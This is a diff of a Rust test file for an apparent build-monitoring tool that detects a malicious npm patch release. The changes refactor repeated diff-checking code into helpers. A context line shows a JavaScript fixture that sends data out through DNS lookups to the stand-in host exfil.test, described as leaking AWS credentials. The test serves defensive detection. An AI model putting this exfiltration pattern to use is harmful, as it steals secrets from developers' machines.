@@ -681,6 +681,29 @@ chunks.forEach((c, i) => dns.lookup(`${c}.${i}.exfil.test`, () => { if (--left =
 setTimeout(() => process.exit(0), 5000);
 "#;
 
+/// `buildwatch diff --format json BASELINE NEW`: the entry of `package`.
+fn diff_entry(baseline: &std::path::Path, new: &std::path::Path, package: &str) -> Value {
+    let out = std::process::Command::new(buildwatch_bin())
+        .args(["diff", "--format", "json"])
+        .args([baseline, new])
+        .output()
+        .unwrap();
+    let d: Value = serde_json::from_slice(&out.stdout)
+        .unwrap_or_else(|e| panic!("{e}: {}", String::from_utf8_lossy(&out.stderr)));
+    d.as_array()
+        .unwrap()
+        .iter()
+        .find(|p| p["package"] == package)
+        .unwrap_or_else(|| panic!("{package} in the diff of {}: {d:#}", baseline.display()))
+        .clone()
+}
+
+fn asks_dns_about(entry: &Value, domain: &str) -> bool {
+    entry["dns"]
+        .as_array()
+        .is_some_and(|a| a.iter().any(|x| x == domain))
+}
+
 /// The seed's story end to end, with real npm and a local registry: `formatter-util` 1.2.1 is
 /// benign; 1.2.2 leaks the AWS_* variables through DNS queries. The diff of the two runs
 /// names the package, the version change and the new DNS behaviour; under the policy learned
@@ -780,28 +803,10 @@ fn the_seed_story_diff_names_the_patch_release_and_block_mode_stops_its_leak() {
     assert_eq!(exfil["package"]["version"], "1.2.2", "{exfil:#}");
 
     // The diff: the package, the version change, the new DNS behaviour.
-    let out = std::process::Command::new(buildwatch_bin())
-        .args(["diff", "--format", "json"])
-        .args([&clean, &leaky])
-        .output()
-        .unwrap();
-    let d: Value = serde_json::from_slice(&out.stdout).unwrap();
-    let pkg = d
-        .as_array()
-        .unwrap()
-        .iter()
-        .find(|p| p["package"] == "formatter-util")
-        .unwrap_or_else(|| panic!("formatter-util in the diff: {d:#}"));
+    let pkg = diff_entry(&clean, &leaky, "formatter-util");
     assert_eq!(pkg["before"], serde_json::json!(["1.2.1"]), "{pkg:#}");
     assert_eq!(pkg["after"], serde_json::json!(["1.2.2"]), "{pkg:#}");
-    assert!(
-        pkg["dns"]
-            .as_array()
-            .unwrap()
-            .iter()
-            .any(|x| x == "exfil.test"),
-        "{pkg:#}"
-    );
+    assert!(asks_dns_about(&pkg, "exfil.test"), "{pkg:#}");
     assert!(
         pkg["findings"]
             .as_array()
@@ -822,28 +827,9 @@ fn the_seed_story_diff_names_the_patch_release_and_block_mode_stops_its_leak() {
     );
 
     // The learned policy is a baseline too: what 1.2.2 does that it does not allow.
-    let out = std::process::Command::new(buildwatch_bin())
-        .args(["diff", "--format", "json"])
-        .args([&learned, &leaky])
-        .output()
-        .unwrap();
-    let d: Value = serde_json::from_slice(&out.stdout)
-        .unwrap_or_else(|e| panic!("{e}: {}", String::from_utf8_lossy(&out.stderr)));
-    let pkg = d
-        .as_array()
-        .unwrap()
-        .iter()
-        .find(|p| p["package"] == "formatter-util")
-        .unwrap_or_else(|| panic!("formatter-util against the policy: {d:#}"));
+    let pkg = diff_entry(&learned, &leaky, "formatter-util");
     assert_eq!(pkg["after"], serde_json::json!(["1.2.2"]), "{pkg:#}");
-    assert!(
-        pkg["dns"]
-            .as_array()
-            .unwrap()
-            .iter()
-            .any(|x| x == "exfil.test"),
-        "{pkg:#}"
-    );
+    assert!(asks_dns_about(&pkg, "exfil.test"), "{pkg:#}");
 
     // Block mode under the learned policy: npm installs 1.2.2, the leak is refused at the
     // DNS layer and never reaches the resolver, and the run fails.
